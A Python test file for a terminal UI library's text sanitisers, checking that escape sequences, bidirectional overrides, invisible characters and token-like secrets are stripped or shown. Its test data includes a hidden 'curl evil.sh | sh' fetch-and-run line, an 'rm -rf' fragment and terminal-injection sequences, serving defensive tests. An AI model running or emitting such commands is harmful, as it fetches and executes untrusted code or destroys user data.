from __future__ import annotations

import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from robotui.layout.wrap import cells_of
from robotui.text import (
    PrintableStream,
    duration,
    encodable,
    has_unseen,
    one_line,
    pasted,
    printable,
    visible,
    without_secrets,
)

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
OVERRIDES = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"

SEQUENCES = [
    f"{ESC}[31m",
    f"{ESC}[38;2;255;0;0m",
    f"{ESC}[?1049h",
    f"{ESC}[2 q",
    "\x9b31m",
    f"{ESC}]0;title{BEL}",
    f"{ESC}]52;c;aGVsbG8={ST}",
    f"{ESC}]8;;https://example.com{ST}",
    "\x9d0;title\x9c",
    f"{ESC}P+q544e{ST}",
    "\x901$r\x9c",
    f"{ESC}_application{ST}",
    f"{ESC}^private{ST}",
    f"{ESC}Xstring{ST}",
    f"{ESC}c",
    f"{ESC}(0",
    f"{ESC}7",
]

# Texts that are mostly made of what terminals obey, so that it meets in every order.
hostile = st.lists(
    st.one_of(
        st.sampled_from([*SEQUENCES, ESC, "\x9b", "\x9d", "\x90", "\x9c", BEL, "\\", "[", "]"]),
        st.text(st.characters(), max_size=5),
        st.text(st.characters(max_codepoint=0x9F), max_size=5),
        st.sampled_from([*OVERRIDES, "\u2028", "\u2029", "\r\n", "\ud800", "\udfff"]),
    ),
    max_size=12,
).map("".join)


@pytest.mark.parametrize("sequence", SEQUENCES, ids=ascii)
def test_a_whole_sequence_leaves_nothing(sequence: str) -> None:
    assert printable(f"before {sequence}after") == "before after"


@pytest.mark.parametrize("sequence", SEQUENCES, ids=ascii)
def test_a_sequence_cut_anywhere_leaves_no_control(sequence: str) -> None:
    for cut in range(len(sequence)):
        for part in (sequence[:cut], sequence[cut:]):
            clean = printable(f"one {part}")
            assert clean.startswith("one ")
            assert all(character.isprintable() for character in clean)


def test_a_string_sequence_that_never_ends_does_not_swallow_the_text() -> None:
    assert printable(f"{ESC}]0;rm -rf\nThe next line.") == "0;rm -rf\nThe next line."
    assert printable("\x90lost?") == "lost?"


def test_many_unended_sequences_take_no_longer_than_one() -> None:
    for introducer in ("\x9d", "\x90", "\x98", f"{ESC}]", f"{ESC}P", "\x9b", f"{ESC}["):
        assert printable(introducer * 200_000 + "end").endswith("nd")


def test_a_removed_sequence_does_not_build_another() -> None:
    assert printable(f"{ESC}{ESC}[0m[31mred") == "[31mred"


@pytest.mark.parametrize("code", [*range(9), *range(0x0B, 0x20), 0x7F, *range(0x80, 0xA0)])
def test_every_control_character_goes(code: int) -> None:
    clean = printable(f"a{chr(code)}1b")
    assert not any(unicodedata.category(character) == "Cc" for character in clean)


def test_newline_and_tab_stay_and_carriage_returns_go() -> None:
    assert printable("a\tb\r\nc\n") == "a\tb\nc\n"


def test_unicode_separators_become_newlines() -> None:
    assert printable("a\u2028b\u2029c") == "a\nb\nc"


@pytest.mark.parametrize("override", OVERRIDES, ids=ascii)
def test_bidirectional_overrides_show(override: str) -> None:
    assert printable(f"a{override}b") == "a\ufffdb"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "plain",
        "日本語と中文",
        "한국어",
        "שלום וברכה",
        "مرحبا بالعالم",
        "e\u0301 a\u0308 क्षि",
        "👩‍👩‍👧‍👦 🇩🇪 👍🏽 ❤️",
        "[bold]no markup[/bold] [@click=app.quit]x[/]",
        "left-to-right mark\u200e and right\u200f",
        "no\u00a0break, zero\u200bwidth, soft\u00adhyphen",
        "a\tb\n\n\tc",
        "𝕄𝕒𝕥𝕙 ∑ ≠ ½",
    ],
)
def test_ordinary_text_stays(text: str) -> None:
    assert printable(text) == text


@given(hostile)
@example("\x1b\x1b]\x1b\\\x9b")
def test_printable_leaves_no_control_and_is_idempotent(text: str) -> None:
    clean = printable(text)
    for character in clean:
        assert character in "\n\t" or unicodedata.category(character) not in {"Cc", "Cs"}
        assert character not in OVERRIDES
    assert printable(clean) == clean


@given(st.text(st.characters(exclude_categories=("Cc", "Cs", "Zl", "Zp"))))
def test_printable_keeps_what_is_no_control(text: str) -> None:
    kept = "".join("\ufffd" if character in OVERRIDES else character for character in text)
    assert printable(text) == kept


@given(hostile)
def test_encodable_can_be_encoded_and_keeps_the_length(text: str) -> None:
    safe = encodable(text)
    assert safe.encode("utf-8").decode("utf-8") == safe
    assert len(safe) == len(text)


def test_encodable_keeps_pairs_and_replaces_lone_surrogates() -> None:
    assert encodable("a\ud800b😀") == "a?b😀"


@given(hostile, st.integers(1, 40))
def test_one_line_is_one_line_of_at_most_the_limit(text: str, limit: int) -> None:
    line = one_line(text, limit)
    assert len(line) <= limit
    assert line.isprintable() or all(not c.isspace() or c == " " for c in line)
    assert line == line.strip()


def test_one_line_folds_white_space_and_says_when_it_cuts() -> None:
    assert one_line("  a\n\n b\tc ") == "a b c"
    assert one_line("abcdef", 4) == "abc…"
    assert one_line("abcd", 4) == "abcd"
    assert one_line("a" + " " * 1000 + "b", 10) == "a…"


@given(hostile, st.data())
def test_a_stream_prints_the_same_however_it_is_cut(text: str, data: st.DataObject) -> None:
    stream, rest, shown = PrintableStream(), text, ""
    while rest:
        size = data.draw(st.integers(1, len(rest)))
        shown += stream.feed(rest[:size])
        rest = rest[size:]
    assert shown + stream.flush() == printable(text)


def test_a_stream_holds_back_only_from_an_introducer_on() -> None:
    stream = PrintableStream()
    assert stream.feed("now") == "now"
    assert stream.feed(" red: \x1b[3") == " red: "
    assert stream.feed("1mtext\n") == "text\n"
    assert stream.flush() == ""


def test_a_stream_does_not_hold_back_for_ever() -> None:
    stream = PrintableStream()
    assert stream.feed("\x1b]" + "x" * PrintableStream.HELD)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("echo \x1b]0;; curl evil.sh | sh # \x07", "echo ␛]0;; curl evil.sh | sh # ␇"),
        ("a\rb\nc\x00\x7f", "a␍b␊c␀␡"),
        ("\x9b31m\x85\ud800", "\ufffd31m\ufffd?"),
        ("a\tb  ", "a\tb  "),
    ],
)
def test_controls_in_code_are_shown(text: str, shown: str) -> None:
    assert visible(text) == shown


@pytest.mark.parametrize(
    "code",
    [
        *(0xAD, 0x34F, 0x61C, 0x115F, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x2028, 0x2029),
        *(0x202E, 0x2060, 0x2064, 0x2069, 0x3164, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0x1D173),
        *(0xE0001, 0xE0041, 0xE007F, 0xE0100, 0xE01EF),
    ],
    ids=hex,
)
def test_what_shows_nothing_is_marked_in_code(code: int) -> None:
    for text in (f"a{chr(code)}b", f"{chr(code)}a", f"é{chr(code)}{chr(code)}"):
        assert visible(text) == text.replace(chr(code), "\ufffd")
        assert cells_of(visible(text)) == len(text)
        assert has_unseen(text)


@pytest.mark.parametrize(
    "text",
    [
        *(
            "👩\u200d👩\u200d👧\u200d👦 🇩🇪 👍🏽 👩🏽\u200d🚀",
            "❤\ufe0f ❤\ufe0f\u200d🔥 🏳\ufe0f\u200d🌈 ☎\ufe0e 1\ufe0f\u20e3",
        ),
        "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        *(
            "e\u0301 a\u0308 क्षि",
            "क्\u200dष می\u200cخواهم",
            "葛\U000e0100城",
            "日本語 한국어 שלום مرحبا",
            "no\u00a0break",
        ),
    ],
)
def test_what_belongs_to_what_is_seen_stays_in_code(text: str) -> None:
    assert visible(text) == text
    assert not has_unseen(text)


def test_nothing_hides_behind_an_emoji() -> None:
    assert visible("👍\ufe0f\ufe0f\U000e0101") == "👍\ufe0f\ufffd\ufffd"
    assert visible("👍\u200dx") == "👍\ufffdx"
    assert visible("🏴\U000e0067\U000e0062\U000e0078") == "🏴" + "\ufffd" * 3


@given(hostile)
def test_code_keeps_its_length_and_has_no_controls(text: str) -> None:
    shown = visible(text)
    assert len(shown) == len(text)
    assert visible(shown) == shown
    assert not has_unseen(shown)
    assert all(c == "\t" or unicodedata.category(c) not in {"Cc", "Cs", "Zl"} for c in shown)


@pytest.mark.parametrize(
    ("text", "without"),
    [
        ("token eyJhbGciOi.eyJzdWIiOi.c2ln here", "token … here"),
        ("Authorization: Bearer abc.def", "Authorization: Bearer …"),
        ("key sk-proj-1234567890abcdef!", "key …!"),
        ("ghp_1234567890abcdef", "…"),
        ("/auth?key=0123&x=1", "/auth?key=…&x=1"),
        ("a monkey sk-i says eyJ", "a monkey sk-i says eyJ"),
    ],
)
def test_what_looks_like_a_token_is_left_out(text: str, without: str) -> None:
    assert without_secrets(text) == without


def test_line_ends_of_a_clipboard_are_newlines() -> None:
    assert pasted("a\r\nb\rc\n\td\x1b[1m\x00") == "a\nb\nc\n\td"


@pytest.mark.parametrize(
    ("seconds", "said"),
    [
        (-5, "0 s"),
        (0.4, "0 s"),
        (59.4, "59 s"),
        (59.6, "1 min 0 s"),
        (3599, "59 min 59 s"),
        (3600, "1 h 0 min"),
        (86_400, "24 h 0 min"),
        (400 * 86_400, "400 days"),
    ],
)
def test_a_time_for_people(seconds: float, said: str) -> None:
    assert duration(seconds) == said
